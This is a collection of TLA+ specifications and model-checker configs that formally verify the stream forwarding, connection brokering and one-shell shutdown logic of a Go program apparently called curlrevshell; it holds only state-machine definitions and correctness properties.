          OchCap,            \* capacity of the operator channel (0 = unbuffered)
          ReaderSelectsCtx,
          MayOmitNotice      \* TRUE for a half of /io: no notice on a clean end

VARIABLES
  rpc,      \* reader: loop | read | send | exit | done
  rpend,    \* items the reader still has to queue after the current Read
  rerr,     \* reader saw an error (its loop ends after queueing)
  fpc,      \* forwarder: select | fwd | log | ret | release | done
  hold,     \* chunk in the forwarder's hand (0 = none)
  endedBy,  \* why the forwarder's loop ended: none | err | ctx | qclosed
  q, qclosed,
  och,      \* operator channel: chunk numbers, 0 = close notice
  ctxDone,  \* the stream's context is cancelled
  closed,   \* the transport is closed: every Read fails from now on
  nread,    \* chunks delivered by the transport so far
  \* history
  sent,     \* chunk numbers delivered by the transport, in order
  shown,    \* what the operator's terminal took, in order
  fwd,      \* chunks the forwarder handed to the operator channel
  dropped,  \* chunks abandoned at cancellation
  logd,     \* chunks with a "Shell I/O" record
  selfEnd   \* the stream ended by itself (read error while not cancelled)

vars == <<rpc, rpend, rerr, fpc, hold, endedBy, q, qclosed, och, ctxDone, closed,
          nread, sent, shown, fwd, dropped, logd, selfEnd>>

Data(s) == SelectSeq(s, LAMBDA x : x # 0)
\* An unbuffered channel (OchCap = 0) is modelled as one slot: every real
\* rendezvous is the pair <<send, Term>> of this model, so the real behaviours
\* are a subset of the modelled ones.
OchRoom == Len(och) < (IF OchCap = 0 THEN 1 ELSE OchCap)

Init ==
  /\ rpc = "loop" /\ rpend = <<>> /\ rerr = FALSE
  /\ fpc = "select" /\ hold = 0 /\ endedBy = "none"
  /\ q = <<>> /\ qclosed = FALSE /\ och = <<>>
  /\ ctxDone = FALSE /\ closed = FALSE /\ nread = 0
  /\ sent = <<>> /\ shown = <<>> /\ fwd = <<>> /\ dropped = {} /\ logd = <<>>
  /\ selfEnd = FALSE

-----------------------------------------------------------------------------
(* reader goroutine *)

RLoop ==
  /\ rpc = "loop"
  /\ rpc' = IF ctxDone \/ rerr THEN "exit" ELSE "read"
  /\ UNCHANGED <<rpend, rerr, fpc, hold, endedBy, q, qclosed, och, ctxDone, closed,
                 nread, sent, shown, fwd, dropped, logd, selfEnd>>

(* One Read call returns: data, an error, both, or nothing (0, nil). *)
RRead(withData, withErr) ==
  /\ rpc = "read"
  /\ withData => (nread < NChunks /\ ~closed)
  /\ closed => withErr
  /\ nread' = IF withData THEN nread + 1 ELSE nread
  /\ sent' = IF withData THEN Append(sent, nread + 1) ELSE sent
  /\ rpend' = (IF withData THEN <<[d |-> nread + 1, e |-> FALSE]>> ELSE <<>>)
              \o (IF withErr THEN <<[d |-> 0, e |-> TRUE]>> ELSE <<>>)
  /\ rerr' = withErr
  /\ selfEnd' = (selfEnd \/ (withErr /\ ~ctxDone))
  /\ rpc' = IF withData \/ withErr THEN "send" ELSE "loop"
  /\ UNCHANGED <<fpc, hold, endedBy, q, qclosed, och, ctxDone, closed, shown, fwd,
                 dropped, logd>>

RSend ==
  /\ rpc = "send" /\ rpend # <<>> /\ Len(q) < QCap
  /\ q' = Append(q, Head(rpend))
  /\ rpend' = Tail(rpend)
  /\ rpc' = IF Len(rpend) = 1 THEN "loop" ELSE "send"
  /\ UNCHANGED <<rerr, fpc, hold, endedBy, qclosed, och, ctxDone, closed, nread, sent,
                 shown, fwd, dropped, logd, selfEnd>>

(* Repaired design only: a queue send gives up when the context is done. *)
RSendCtx ==
  /\ ReaderSelectsCtx
  /\ rpc = "send" /\ ctxDone
  /\ rpc' = "exit" /\ rpend' = <<>>
  /\ UNCHANGED <<rerr, fpc, hold, endedBy, q, qclosed, och, ctxDone, closed, nread, sent,
                 shown, fwd, dropped, logd, selfEnd>>

RExit ==
  /\ rpc = "exit"
  /\ rpc' = "done" /\ qclosed' = TRUE
  /\ UNCHANGED <<rpend, rerr, fpc, hold, endedBy, q, och, ctxDone, closed, nread, sent,
                 shown, fwd, dropped, logd, selfEnd>>

-----------------------------------------------------------------------------
(* forwarder (the goroutine that called connect) *)

FTake ==
  /\ fpc = "select" /\ q # <<>>
  /\ LET o == Head(q) IN
     /\ q' = Tail(q)
     /\ IF o.e
        THEN /\ fpc' = "ret" /\ endedBy' = "err" /\ hold' = 0
        ELSE /\ fpc' = "fwd" /\ hold' = o.d /\ UNCHANGED endedBy
  /\ UNCHANGED <<rpc, rpend, rerr, qclosed, och, ctxDone, closed, nread, sent, shown,
                 fwd, dropped, logd, selfEnd>>

FClosed ==
  /\ fpc = "select" /\ q = <<>> /\ qclosed
  /\ fpc' = "ret" /\ endedBy' = "qclosed"
  /\ UNCHANGED <<rpc, rpend, rerr, hold, q, qclosed, och, ctxDone, closed, nread, sent,
                 shown, fwd, dropped, logd, selfEnd>>

(* ctx.Done wins the outer select. *)
FCtx ==
  /\ fpc = "select" /\ ctxDone
  /\ fpc' = "ret" /\ endedBy' = "ctx"
  /\ UNCHANGED <<rpc, rpend, rerr, hold, q, qclosed, och, ctxDone, closed, nread, sent,
                 shown, fwd, dropped, logd, selfEnd>>

(* The chunk in hand goes to the operator channel ... *)
FFwd ==
  /\ fpc = "fwd" /\ OchRoom
  /\ och' = Append(och, hold)
  /\ fwd' = Append(fwd, hold)
  /\ fpc' = "log"
  /\ UNCHANGED <<rpc, rpend, rerr, hold, endedBy, q, qclosed, ctxDone, closed, nread, sent,
                 shown, dropped, logd, selfEnd>>

(* ... and only then gets its "Shell I/O" record; the loop then looks at ctx. *)
FLog ==
  /\ fpc = "log"
  /\ logd' = Append(logd, hold)
  /\ hold' = 0
  /\ IF ctxDone THEN fpc' = "ret" /\ endedBy' = "ctx"
               ELSE fpc' = "select" /\ UNCHANGED endedBy
  /\ UNCHANGED <<rpc, rpend, rerr, q, qclosed, och, ctxDone, closed, nread, sent, shown,
                 fwd, dropped, selfEnd>>

(* ctx.Done wins the inner select: the chunk in hand is abandoned. *)
FDrop ==
  /\ fpc = "fwd" /\ ctxDone
  /\ dropped' = dropped \cup {hold}
  /\ hold' = 0
  /\ fpc' = "ret" /\ endedBy' = "ctx"
  /\ UNCHANGED <<rpc, rpend, rerr, q, qclosed, och, ctxDone, closed, nread, sent, shown,
                 fwd, logd, selfEnd>>

(* connect: the closing notice, sent by the same goroutine. *)
FNotice ==
  /\ fpc = "ret" /\ OchRoom
  /\ och' = Append(och, 0)
  /\ fpc' = "release"
  /\ UNCHANGED <<rpc, rpend, rerr, hold, endedBy, q, qclosed, ctxDone, closed, nread, sent,
                 shown, fwd, dropped, logd, selfEnd>>

(* A half of a /io request that ends without error sends no notice. *)
FNoNotice ==
  /\ MayOmitNotice /\ fpc = "ret"
  /\ fpc' = "release"
  /\ UNCHANGED <<rpc, rpend, rerr, hold, endedBy, q, qclosed, och, ctxDone, closed, nread, sent,
                 shown, fwd, dropped, logd, selfEnd>>

(* connect: second critical section; the handler returns afterwards. *)
FRelease ==
  /\ fpc = "release"
  /\ fpc' = "done"
  /\ UNCHANGED <<rpc, rpend, rerr, hold, endedBy, q, qclosed, och, ctxDone, closed, nread,
                 sent, shown, fwd, dropped, logd, selfEnd>>

-----------------------------------------------------------------------------
(* environment *)

(* The operator's terminal takes the next item. *)
Term ==
  /\ och # <<>>
  /\ shown' = Append(shown, Head(och))
  /\ och' = Tail(och)
  /\ UNCHANGED <<rpc, rpend, rerr, fpc, hold, endedBy, q, qclosed, ctxDone, closed, nread,
                 sent, fwd, dropped, logd, selfEnd>>

(* The stream's context is cancelled: peer released, request ended, ... *)
Cancel ==
  /\ ~ctxDone /\ ctxDone' = TRUE
  /\ UNCHANGED <<rpc, rpend, rerr, fpc, hold, endedBy, q, qclosed, och, closed, nread, sent,
                 shown, fwd, dropped, logd, selfEnd>>

(* The transport is closed (client went away, or the HTTP server closes the *)
(* request body once the handler has returned).                             *)
CloseTransport ==
  /\ ~closed /\ closed' = TRUE
  /\ UNCHANGED <<rpc, rpend, rerr, fpc, hold, endedBy, q, qclosed, och, ctxDone, nread, sent,
                 shown, fwd, dropped, logd, selfEnd>>

Reader == RLoop \/ (\E d, e \in BOOLEAN : RRead(d, e)) \/ RSend \/ RSendCtx \/ RExit
Forwarder == FTake \/ FClosed \/ FCtx \/ FFwd \/ FLog \/ FDrop \/ FNotice \/ FNoNotice \/ FRelease
Env == Term \/ Cancel \/ CloseTransport
Next == Reader \/ Forwarder \/ Env

Spec == Init /\ [][Next]_vars

(* Fairness: every implementation step that does not need the environment,  *)
(* reads only once the transport is closed (no further traffic assumed),    *)
(* and a terminal that keeps taking lines (it may be arbitrarily slow).     *)
Fair ==
  /\ WF_vars(RLoop) /\ WF_vars(RSend) /\ WF_vars(RSendCtx) /\ WF_vars(RExit)
  /\ WF_vars(closed /\ \E d, e \in BOOLEAN : RRead(d, e))
  /\ WF_vars(FTake) /\ WF_vars(FClosed) /\ WF_vars(FCtx) /\ WF_vars(FFwd) /\ WF_vars(FLog)
  /\ WF_vars(FDrop) /\ WF_vars(FNotice) /\ WF_vars(FNoNotice) /\ WF_vars(FRelease)
  /\ WF_vars(Term)
  \* the server closes the request body once the handler has returned
  /\ WF_vars(fpc = "done" /\ CloseTransport)
FairSpec == Spec /\ Fair

-----------------------------------------------------------------------------
(* Properties *)

TypeOK ==
  /\ rpc \in {"loop", "read", "send", "exit", "done"}
  /\ fpc \in {"select", "fwd", "log", "ret", "release", "done"}
  /\ Len(q) <= QCap /\ nread <= NChunks

(* C03: what was shown is a prefix of what was sent (exactly once, in order) *)
ShownIsPrefix == IsPrefix(Data(shown), sent)
ChannelInOrder == IsPrefix(Data(shown \o och), sent)
ForwardedIsShownPlusChannel == Data(shown \o och) = fwd

(* C03: a stream that ended by itself while attached loses nothing, and the *)
(* close notice comes after all of its data.                                *)
NoticeAfterAllData ==
  (endedBy = "err" /\ fpc \in {"release", "done"}) => Data(shown \o och) = sent
NoticeLast ==
  \A i \in 1..Len(shown \o och) : (shown \o och)[i] = 0 => i = Len(shown \o och)
AtMostOneNotice == Cardinality({i \in 1..Len(shown \o och) : (shown \o och)[i] = 0}) <= 1
(* a chunk abandoned at cancellation is never followed by a shown chunk *)
NothingAfterDrop == dropped # {} => (fpc \in {"ret", "release", "done"} /\ \A c \in dropped : \A i \in 1..Len(fwd) : fwd[i] < c)
LossOnlyByCancellation == (fpc \in {"release", "done"} /\ Data(shown \o och) # sent) => ctxDone

(* C11: output records are exactly the forwarded chunks, in order; a record  *)
(* is written right after its chunk was handed over.                        *)
LogMatchesForwarded ==
  /\ IsPrefix(logd, fwd) /\ Len(fwd) - Len(logd) <= 1
  /\ fpc # "log" => logd = fwd
NothingDroppedLogged == \A c \in dropped : \A i \in 1..Len(logd) : logd[i] # c

(* C04: once cancelled the direction ends without further traffic; once the *)
(* transport is closed nothing of the stream keeps running.                  *)
EndsWhenCancelled == ctxDone ~> fpc = "done"
NoLeak == closed ~> (rpc = "done" /\ fpc = "done")
EndsBySelf == selfEnd ~> fpc = "done"

=============================================================================
