SPECIFICATION TSpec
CONSTANTS
  EncLens = {0}
  DecBases = {0}
  Emit = FALSE
  Rows = {0, 1, 2, 3, 63, 64, 127, 128, 129, 191, 192, 252, 253, 254, 255, 85}
INVARIANTS TablesOK
CHECK_DEADLOCK FALSE
