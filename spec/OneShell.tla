----------------------------- MODULE OneShell -----------------------------
(***************************************************************************)
(* -one-shell: internal/hsrv watchIOBEvents / serveHTTP and the exit path  *)
(* of curlrevshell.go, on top of the broker's connected / disconnected     *)
(* events.                                                                 *)
(*                                                                         *)
(*   Attach(d), AttachIO, Refused   clients; only a fully attached shell   *)
(*                                  produces the connected event           *)
(*   WatchConnected      the server's event watcher: with -one-shell it    *)
(*                       announces and closes the listening socket         *)
(*   Probe               a new TCP connection: succeeds iff the socket is  *)
(*                       still listening                                   *)
(*   Traffic             the attached shell keeps working                  *)
(*   EndShell            the shell ends; disconnected event                *)
(*   WatchDisconnected   without -one-shell the callback help is printed   *)
(*                       again                                             *)
(*   ServeReturns        http.Server.Serve returns (listener closed);      *)
(*                       graceful Shutdown then waits for the shell        *)
(*   ShutdownDone        ... and returns once no stream is attached        *)
(*   OperatorLine        the terminal's ReadLine returns: the program can  *)
(*                       now notice that it should exit                    *)
(*   Hold                a client connects while the socket still listens  *)
(*                       and sends nothing yet: a connection in flight     *)
(*                       when the listener closes                          *)
(*   LateIO              ... and sends its /io request afterwards: it is   *)
(*                       served like any other (closing the listener does  *)
(*                       not touch accepted connections), so a further     *)
(*                       shell may attach once the first has gone          *)
(*   HeldCloses          the held connection is closed (by the client, or  *)
(*                       by the graceful shutdown once it is 5 s old)      *)
(***************************************************************************)
EXTENDS Naturals, Sequences, FiniteSets, TLC, Json

CONSTANTS OneShellFlag, MaxPre, MaxHeld, Emit

VARIABLES
  listener,   \* open | closed
  inAtt, outAtt,
  viaIO,      \* the attached shell came through /io
  everFull,   \* a shell has been fully attached
  evq,        \* events not yet seen by the watcher
  gone,       \* the (first) shell has ended
  reprints,   \* callback help re-printed
  proc,       \* serving | draining | stopping | exited
  status,     \* exit status once exited
  npre,       \* refused / half attempts so far
  ntraffic,
  held,       \* connections accepted before the listener closed that have not sent a request
  nheld,      \* ... so far (bounds the model)
  act
vars == <<listener, inAtt, outAtt, viaIO, everFull, evq, gone, reprints, proc, status, npre, ntraffic, held, nheld, act>>

Init ==
  /\ listener = "open" /\ inAtt = FALSE /\ outAtt = FALSE /\ viaIO = FALSE /\ everFull = FALSE
  /\ evq = <<>> /\ gone = FALSE /\ reprints = 0 /\ proc = "serving" /\ status = 0 /\ npre = 0 /\ ntraffic = 0
  /\ held = 0 /\ nheld = 0
  /\ act = [n |-> "Init"]

Full == inAtt /\ outAtt
CanAccept == listener = "open" /\ proc = "serving" /\ ~gone

Attach(d) ==
  /\ CanAccept /\ ~viaIO
  /\ IF d = "in" THEN ~inAtt /\ inAtt' = TRUE /\ UNCHANGED outAtt
               ELSE ~outAtt /\ outAtt' = TRUE /\ UNCHANGED inAtt
  /\ LET full == (IF d = "in" THEN outAtt ELSE inAtt) IN
     /\ evq' = IF full THEN Append(evq, "connected") ELSE evq
     /\ everFull' = (everFull \/ full)
  /\ act' = [n |-> "Attach", d |-> d]
  /\ UNCHANGED <<listener, viaIO, gone, reprints, proc, status, npre, ntraffic, held, nheld>>

AttachIO ==
  /\ CanAccept /\ ~inAtt /\ ~outAtt
  /\ inAtt' = TRUE /\ outAtt' = TRUE /\ viaIO' = TRUE /\ everFull' = TRUE
  /\ evq' = Append(evq, "connected")
  /\ act' = [n |-> "AttachIO"]
  /\ UNCHANGED <<listener, gone, reprints, proc, status, npre, ntraffic, held, nheld>>

(* an attempt the broker refuses (duplicate direction, wrong ID) *)
Refused ==
  /\ CanAccept /\ (inAtt \/ outAtt) /\ npre < MaxPre
  /\ npre' = npre + 1
  /\ act' = [n |-> "Refused", d |-> IF inAtt THEN "in" ELSE "out"]
  /\ UNCHANGED <<listener, inAtt, outAtt, viaIO, everFull, evq, gone, reprints, proc, status, ntraffic, held, nheld>>

(* a half-attached stream goes away again *)
DropHalf ==
  /\ proc = "serving" /\ ~Full /\ (inAtt \/ outAtt) /\ npre < MaxPre /\ ~everFull
  /\ inAtt' = FALSE /\ outAtt' = FALSE /\ npre' = npre + 1
  /\ act' = [n |-> "DropHalf"]
  /\ UNCHANGED <<listener, viaIO, everFull, evq, gone, reprints, proc, status, ntraffic, held, nheld>>

WatchConnected ==
  /\ evq # <<>> /\ Head(evq) = "connected" /\ evq' = Tail(evq)
  /\ listener' = IF OneShellFlag THEN "closed" ELSE listener
  /\ act' = [n |-> "tau"]
  /\ UNCHANGED <<inAtt, outAtt, viaIO, everFull, gone, reprints, proc, status, npre, ntraffic, held, nheld>>

WatchDisconnected ==
  /\ evq # <<>> /\ Head(evq) = "disconnected" /\ evq' = Tail(evq)
  /\ reprints' = IF OneShellFlag THEN reprints ELSE reprints + 1
  /\ act' = [n |-> "tau"]
  /\ UNCHANGED <<listener, inAtt, outAtt, viaIO, everFull, gone, proc, status, npre, ntraffic, held, nheld>>

Probe ==
  /\ proc # "exited"
  /\ act' = [n |-> "Probe", ok |-> (listener = "open")]
  /\ UNCHANGED <<listener, inAtt, outAtt, viaIO, everFull, evq, gone, reprints, proc, status, npre, ntraffic, held, nheld>>

Traffic ==
  /\ Full /\ ntraffic < 2
  /\ ntraffic' = ntraffic + 1
  /\ act' = [n |-> "Traffic"]
  /\ UNCHANGED <<listener, inAtt, outAtt, viaIO, everFull, evq, gone, reprints, proc, status, npre, held, nheld>>

EndShell(how) ==
  /\ Full /\ (viaIO \/ ~gone)
  /\ inAtt' = FALSE /\ outAtt' = FALSE /\ gone' = TRUE
  /\ evq' = Append(evq, "disconnected")
  /\ act' = [n |-> "EndShell", how |-> how]
  /\ UNCHANGED <<listener, viaIO, everFull, reprints, proc, status, npre, ntraffic, held, nheld>>

ServeReturns ==
  /\ proc = "serving" /\ listener = "closed"
  /\ proc' = "draining" /\ act' = [n |-> "tau"]
  /\ UNCHANGED <<listener, inAtt, outAtt, viaIO, everFull, evq, gone, reprints, status, npre, ntraffic, held, nheld>>

ShutdownDone ==
  /\ proc = "draining" /\ ~inAtt /\ ~outAtt /\ held = 0
  /\ proc' = "stopping" /\ act' = [n |-> "tau"]
  /\ UNCHANGED <<listener, inAtt, outAtt, viaIO, everFull, evq, gone, reprints, status, npre, ntraffic, held, nheld>>

OperatorLine ==
  /\ proc # "exited"
  /\ IF proc = "stopping" THEN proc' = "exited" /\ status' = 0 ELSE UNCHANGED <<proc, status>>
  /\ act' = [n |-> "OperatorLine", exits |-> (proc = "stopping")]
  /\ UNCHANGED <<listener, inAtt, outAtt, viaIO, everFull, evq, gone, reprints, npre, ntraffic, held, nheld>>

Hold ==
  /\ CanAccept /\ nheld < MaxHeld
  /\ held' = held + 1 /\ nheld' = nheld + 1
  /\ act' = [n |-> "Hold"]
  /\ UNCHANGED <<listener, inAtt, outAtt, viaIO, everFull, evq, gone, reprints, proc, status, npre, ntraffic>>

LateIO ==
  /\ held > 0 /\ listener = "closed" /\ proc \in {"serving", "draining"} /\ ~inAtt /\ ~outAtt
  /\ held' = held - 1
  /\ inAtt' = TRUE /\ outAtt' = TRUE /\ viaIO' = TRUE /\ ntraffic' = 0
  /\ evq' = Append(evq, "connected")
  /\ act' = [n |-> "LateIO"]
  /\ UNCHANGED <<listener, everFull, gone, reprints, proc, status, npre, nheld>>

HeldCloses ==
  /\ held > 0
  /\ held' = held - 1
  /\ act' = [n |-> "HeldCloses"]
  /\ UNCHANGED <<listener, inAtt, outAtt, viaIO, everFull, evq, gone, reprints, proc, status, npre, ntraffic, nheld>>

Next == Hold \/ LateIO \/ HeldCloses \/ (\E d \in {"in", "out"} : Attach(d)) \/ AttachIO \/ Refused \/ DropHalf \/ WatchConnected \/ WatchDisconnected
        \/ Probe \/ Traffic \/ (\E h \in {"in-closes", "out-closes"} : EndShell(h)) \/ ServeReturns \/ ShutdownDone \/ OperatorLine
Spec == Init /\ [][Next]_vars
Fair == WF_vars(WatchConnected) /\ WF_vars(WatchDisconnected) /\ WF_vars(ServeReturns) /\ WF_vars(ShutdownDone)
        /\ WF_vars(OperatorLine) /\ WF_vars(HeldCloses) /\ WF_vars(\E h \in {"in-closes", "out-closes"} : EndShell(h))
FairSpec == Spec /\ Fair

(* C12 *)
ClosedOnlyAfterFull == listener = "closed" => (everFull /\ OneShellFlag)
OpenWhileNotFull == ~everFull => listener = "open"
ClosesAfterFull == OneShellFlag => (everFull ~> listener = "closed")
ShellUndisturbed == [][(listener' # listener) => (inAtt' = inAtt /\ outAtt' = outAtt)]_vars
NoHelpAfterGone == OneShellFlag => reprints = 0
ExitsAtNextLine == OneShellFlag => (gone ~> proc = "exited")
ExitsWithSuccess == proc = "exited" => status = 0
StaysWhileShellAttached == (inAtt \/ outAtt) => proc # "exited"

(* a shell formed late by a connection in flight is served to its end as well *)
LateShellServed == [][(act'.n = "LateIO") => (inAtt' /\ outAtt' /\ proc' = proc /\ status' = status)]_vars

View == <<listener, inAtt, outAtt, viaIO, everFull, evq, gone, reprints, proc, status, npre, ntraffic, held, nheld>>
EmitEdge == \/ ~Emit
            \/ PrintT(<<"EDGE", ToJson([from |-> View, act |-> act', to |-> View'])>>)
=============================================================================
