----------------------------- MODULE BrokerInd -----------------------------
(***************************************************************************)
(* The control part of BrokerCtl (admission / release / shutdown, repaired *)
(* per-request /io key) in the typed dialect Apalache checks, with an      *)
(* inductive invariant.  Apalache discharges                               *)
(*     Init => IndInv            (--init=Init    --inv=IndInv --length=0)  *)
(*     IndInv /\ Next => IndInv' (--init=IndInit --inv=IndInv --length=1)  *)
(* so OneShell and SameRequest hold in every reachable state, after        *)
(* histories of any length, for N attempts in flight - not only in the     *)
(* states TLC reaches with its bounds.                                     *)
(*                                                                         *)
(* Keys are integers: 0 = no key, 1..NKeys = callback IDs, 100 + r = the   *)
(* sentinel key of /io request r.  History counters are left out.          *)
(***************************************************************************)
EXTENDS Integers, FiniteSets

CONSTANTS
  \* @type: Int;
  N,
  \* @type: Int;
  NKeys,
  \* @type: Int;
  MaxReq

Att == 1..N
None == 0
UniKeys == 0..NKeys
BidirKey(r) == 100 + r
IsBidir(k) == k > 100
AllKeys == UniKeys \union {BidirKey(r) : r \in 1..MaxReq}

VARIABLES
  \* @type: Int;
  key,
  \* @type: Int;
  cIn,
  \* @type: Int;
  cOut,
  \* @type: Bool;
  noMore,
  \* @type: Int -> Str;
  pc,
  \* @type: Int -> Str;
  adir,
  \* @type: Int -> Int;
  akey,
  \* @type: Int -> Int;
  areq,
  \* @type: Set(Int);
  cancelled,
  \* @type: Int;
  nreq

Holder(d) == IF d = "in" THEN cIn ELSE cOut
OtherDir(d) == IF d = "in" THEN "out" ELSE "in"
Attached(d) == {a \in Att : pc[a] \in {"proxy", "ended"} /\ adir[a] = d}

Init ==
  /\ key = 0 /\ cIn = None /\ cOut = None /\ noMore = FALSE
  /\ pc = [a \in Att |-> "new"] /\ adir = [a \in Att |-> "in"]
  /\ akey = [a \in Att |-> 0] /\ areq = [a \in Att |-> 0]
  /\ cancelled = {} /\ nreq = 0

ArriveUni(a, d, k) ==
  /\ pc[a] = "new" /\ nreq < MaxReq
  /\ pc' = [pc EXCEPT ![a] = "lock"]
  /\ adir' = [adir EXCEPT ![a] = d]
  /\ akey' = [akey EXCEPT ![a] = k]
  /\ nreq' = nreq + 1
  /\ areq' = [areq EXCEPT ![a] = nreq + 1]
  /\ UNCHANGED <<key, cIn, cOut, noMore, cancelled>>

ArriveIO(a, b) ==
  /\ a # b /\ pc[a] = "new" /\ pc[b] = "new" /\ nreq < MaxReq
  /\ pc' = [pc EXCEPT ![a] = "lock", ![b] = "lock"]
  /\ adir' = [adir EXCEPT ![a] = "in", ![b] = "out"]
  /\ akey' = [akey EXCEPT ![a] = BidirKey(nreq + 1), ![b] = BidirKey(nreq + 1)]
  /\ nreq' = nreq + 1
  /\ areq' = [areq EXCEPT ![a] = nreq + 1, ![b] = nreq + 1]
  /\ UNCHANGED <<key, cIn, cOut, noMore, cancelled>>

MustRefuse(a) ==
  LET d == adir[a]  k == akey[a]  us == Holder(d)  oth == Holder(OtherDir(d)) IN
  \/ k = 0
  \/ (key = 0 /\ (us # None \/ oth # None))
  \/ us # None
  \/ (key # 0 /\ k # key)

Admit(a) ==
  /\ pc[a] = "lock"
  /\ IF noMore \/ MustRefuse(a)
     THEN /\ pc' = [pc EXCEPT ![a] = "done"]
          /\ UNCHANGED <<key, cIn, cOut>>
     ELSE /\ pc' = [pc EXCEPT ![a] = "proxy"]
          /\ key' = akey[a]
          /\ cIn' = IF adir[a] = "in" THEN a ELSE cIn
          /\ cOut' = IF adir[a] = "out" THEN a ELSE cOut
  /\ UNCHANGED <<noMore, adir, akey, areq, cancelled, nreq>>

ProxyEnd(a) ==
  /\ pc[a] = "proxy"
  /\ pc' = [pc EXCEPT ![a] = "ended"]
  /\ UNCHANGED <<key, cIn, cOut, noMore, adir, akey, areq, cancelled, nreq>>

Release(a) ==
  /\ pc[a] = "ended"
  /\ key' = 0
  /\ cIn' = IF adir[a] = "in" THEN None ELSE cIn
  /\ cOut' = IF adir[a] = "out" THEN None ELSE cOut
  /\ cancelled' = IF Holder(OtherDir(adir[a])) # None THEN cancelled \union {Holder(OtherDir(adir[a]))} ELSE cancelled
  /\ pc' = [pc EXCEPT ![a] = "done"]
  /\ UNCHANGED <<noMore, adir, akey, areq, nreq>>

\* the client of a request goes away while its attempts still wait for the lock (BrokerCtl!Hangup)
Hangup(a) ==
  /\ pc[a] = "lock" /\ a \notin cancelled /\ ~noMore
  /\ cancelled' = cancelled \union {b \in Att : areq[b] = areq[a] /\ (pc[b] = "lock" \/ pc[b] = "proxy")}
  /\ UNCHANGED <<key, cIn, cOut, noMore, pc, adir, akey, areq, nreq>>

Shutdown ==
  /\ ~noMore /\ noMore' = TRUE
  /\ UNCHANGED <<key, cIn, cOut, pc, adir, akey, areq, cancelled, nreq>>

Next ==
  \/ \E a \in Att, d \in {"in", "out"}, k \in UniKeys : ArriveUni(a, d, k)
  \/ \E a, b \in Att : ArriveIO(a, b)
  \/ \E a \in Att : Admit(a) \/ ProxyEnd(a) \/ Release(a) \/ Hangup(a)
  \/ Shutdown

-----------------------------------------------------------------------------
OneShell ==
  /\ \A a, b \in Attached("in") : a = b
  /\ \A a, b \in Attached("out") : a = b
  /\ \A a \in Attached("in"), b \in Attached("out") : akey[a] = akey[b]

SameRequest ==
  \A a \in Attached("in"), b \in Attached("out") :
     (IsBidir(akey[a]) /\ IsBidir(akey[b])) => areq[a] = areq[b]

TypeOK ==
  /\ key \in AllKeys /\ cIn \in Att \union {None} /\ cOut \in Att \union {None}
  /\ noMore \in BOOLEAN
  /\ pc \in [Att -> {"new", "lock", "proxy", "ended", "done"}]
  /\ adir \in [Att -> {"in", "out"}]
  /\ akey \in [Att -> AllKeys]
  /\ areq \in [Att -> 0..MaxReq]
  /\ cancelled \in SUBSET Att
  /\ nreq \in 0..MaxReq

(* the broker's book-keeping agrees with the attempts' program counters *)
Consistent ==
  /\ \A a \in Att : (pc[a] \in {"proxy", "ended"} /\ adir[a] = "in") <=> cIn = a
  /\ \A a \in Att : (pc[a] \in {"proxy", "ended"} /\ adir[a] = "out") <=> cOut = a
  /\ key # 0 => ((cIn # None \/ cOut # None)
                 /\ (cIn # None => akey[cIn] = key) /\ (cOut # None => akey[cOut] = key))
  /\ (cIn # None /\ cOut # None) => akey[cIn] = akey[cOut]

(* the sentinel key of an attempt is the one of its own request *)
KeysOfRequests ==
  /\ \A a \in Att : pc[a] # "new" => (areq[a] \in 1..nreq)
  /\ \A a \in Att : IsBidir(akey[a]) => akey[a] = BidirKey(areq[a])
  /\ \A a \in Att : pc[a] = "new" => (akey[a] = 0 /\ areq[a] = 0)

IndInv == TypeOK /\ Consistent /\ KeysOfRequests /\ OneShell /\ SameRequest
IndInit == TypeOK /\ IndInv
=============================================================================
