SPECIFICATION Spec
CONSTANTS
  MaxSteps = 4
  MaxScripts = 3
  Emit = TRUE
INVARIANTS FreshID PrecedenceTotal
PROPERTIES NoScriptOnBadTemplate RereadEveryRequest
CONSTRAINT EmitCase
ACTION_CONSTRAINT EmitEdge
VIEW View
CHECK_DEADLOCK FALSE
