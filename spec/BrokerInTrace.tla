--------------------------- MODULE BrokerInTrace ---------------------------
(* Trace validation for BrokerIn (see BrokerOutTrace for the method).      *)
EXTENDS BrokerIn, Json

Trace == ndJsonDeserialize("trace.ndjson")

VARIABLES l, cpend
tvars == <<vars, l, cpend>>

TInit == Init /\ l = 1 /\ cpend = FALSE
Is(e) == l <= Len(Trace) /\ Trace[l].e = e
Consume == l' = l + 1 /\ UNCHANGED cpend

TEnter    == Is("Enter") /\ Enter /\ nentered' = Trace[l].v /\ Consume
TCloseIch == Is("CloseIch") /\ CloseIch /\ Consume
TAttach   == Is("Attach") /\ Attach(Trace[l].k) /\ shell' = Trace[l].s /\ Consume
TCancelStart == Is("CancelStart") /\ ~cpend /\ cpend' = TRUE /\ UNCHANGED vars /\ l' = l + 1
DoCancel     == l <= Len(Trace) /\ cpend /\ Cancel /\ UNCHANGED <<l, cpend>>
TCancelEnd   == Is("CancelEnd") /\ cpend /\ (ctxDone \/ shell = 0) /\ cpend' = FALSE /\ UNCHANGED vars /\ l' = l + 1
TWrite    == Is("Write") /\ shell = Trace[l].s /\ ipc = "write" /\ cur = Trace[l].v /\ InWrite(Trace[l].ok) /\ Consume
TFlush    == Is("Flush") /\ shell = Trace[l].s /\ InFlush(Trace[l].ok) /\ Consume
TLog      == Is("Log") /\ shell = Trace[l].s /\ ipc = "log" /\ cur = Trace[l].v /\ InLog /\ Consume
TReleased == Is("Released") /\ shell = Trace[l].s /\ InRelease /\ Consume
TQuiesced == Is("Quiesced") /\ shell = 0 /\ Trace[l].leaked = 0 /\ UNCHANGED vars /\ Consume
TReset ==
  /\ Is("Reset") /\ l' = l + 1 /\ cpend' = FALSE
  /\ ich' = <<>> /\ ichClosed' = FALSE /\ nentered' = 0
  /\ shell' = 0 /\ nshell' = 0 /\ kind' = "plain" /\ ipc' = "none" /\ cur' = 0 /\ ctxDone' = FALSE
  /\ taken' = [s \in Shells |-> <<>>] /\ written' = [s \in Shells |-> <<>>]
  /\ flushed' = [s \in Shells |-> <<>>] /\ logd' = [s \in Shells |-> <<>>]
  /\ endedBy' = [s \in Shells |-> "none"]

Silent == l <= Len(Trace) /\ (InTake \/ InIchClosed \/ InCtx) /\ UNCHANGED <<l, cpend>>

TNext == TEnter \/ TCloseIch \/ TAttach \/ TCancelStart \/ DoCancel \/ TCancelEnd \/ TWrite \/ TFlush
         \/ TLog \/ TReleased \/ TQuiesced \/ TReset \/ Silent
TSpec == TInit /\ [][TNext]_tvars
NotAllConsumed == l <= Len(Trace)
=============================================================================
